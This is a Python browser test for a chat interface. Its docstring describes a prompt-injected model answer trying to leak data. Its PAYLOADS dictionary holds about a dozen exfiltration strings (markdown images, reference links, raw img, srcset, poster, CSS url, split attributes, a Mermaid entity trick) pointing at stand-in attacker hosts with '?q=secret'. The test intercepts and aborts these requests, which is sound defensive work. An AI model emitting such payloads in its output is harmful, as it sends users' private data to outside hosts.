"""No request leaves the page for a host the rails block, whatever spelling the model uses (issue 14).

A prompt-injected answer tries to make the browser fetch `https://<blocked host>/?q=secret`: markdown images,
reference definitions, raw HTML attributes, scheme-relative URLs. Chromium runs the real page; every request
it tries to send off loopback is recorded and aborted (nothing leaves the machine). The chat is checked live
and again after a reload, when it is rebuilt from the store.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import send, wait_idle
from tests.support.scripted_upstream import Script

PAYLOADS = {
    "markdown-image": "Here: ![x](https://img.evil.example/?q=secret) done",
    "angle-image": "Here: ![a](<https://angle.evil.example/x.png>) done",
    "reference-next-line": "Here ![logo][q]\n\n[q]:\n//refdef.evil.shop/p.png\n",
    "reference-in-quote": "Look ![r]\n\n> [r]: //quote.evil.shop/p.png\n",
    "reference-angle": "Look ![r]\n\n[r]:\n<//angle-ref.evil.shop/p.png>\n",
    "raw-img": 'Here <img src="//rawimg.evil.shop/p.png"> done',
    "split-attribute": "Here <img src" + " " * 1100 + '="//attr-split.evil.shop/p.png"> done',
    "userinfo": "Here ![x](//x@userinfo.evil.com/p.png) done",
    "video-poster": 'Here <video poster="https://poster.evil.example/p.png"></video> done',
    "srcset": 'Here <img srcset="https://srcset.evil.example/p.png 2x"> done',
    "css-url": '<div style="background:url(https://css.evil.example/p.png)">x</div>',
    # a tab in a fence's info string named the class "mermaid": the page ran Mermaid, whose HTML labels
    # load images, the URL spelled in Mermaid's own entities (#58; is ":")
    "mermaid-class": "Plan:\n\n```a\tmermaid\nflowchart LR\n  A[\"<img src='https#58;#47;#47;mermaid.evil.example"
    "/p.png'>\"] --> B\n```\n",
}
BLOCKED_SUFFIXES = ("evil.example", "evil.shop", "evil.com")


@pytest.fixture
def foreign_requests(page) -> list[str]:
    """Every URL the page tries to fetch off loopback; each is aborted before it leaves."""
    seen: list[str] = []

    def handle(route) -> None:
        host = urlsplit(route.request.url).hostname or ""
        if host in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            seen.append(route.request.url)
            route.abort()

    page.context.route("**/*", handle)
    return seen


def to_blocked_hosts(urls: list[str]) -> list[str]:
    return [u for u in urls if (urlsplit(u).hostname or "").endswith(BLOCKED_SUFFIXES)]


def test_no_request_leaves_the_page_for_a_blocked_host(page, browser_upstream, foreign_requests) -> None:
    for name, answer in PAYLOADS.items():
        browser_upstream.push(
            Script(answer=[answer[: len(answer) // 2], answer[len(answer) // 2 :]], delay_s=0.02)
        )
        send(page, f"Say the {name} thing")
        wait_idle(page)
        page.wait_for_timeout(300)  # let the renderer load whatever it would load
    assert to_blocked_hosts(foreign_requests) == []
    assert (
        page.locator(
            "#chatbot img[src*='evil'], #chatbot [srcset*='evil'], #chatbot [poster*='evil']"
        ).count()
        == 0
    )

    page.reload()  # the URL names the open chat: the same chat rebuilt from the store
    page.wait_for_selector("#input textarea", timeout=30_000)
    page.wait_for_function("() => document.querySelector('#chatbot').innerText.includes('Say the')")
    page.wait_for_timeout(500)
    assert to_blocked_hosts(foreign_requests) == []
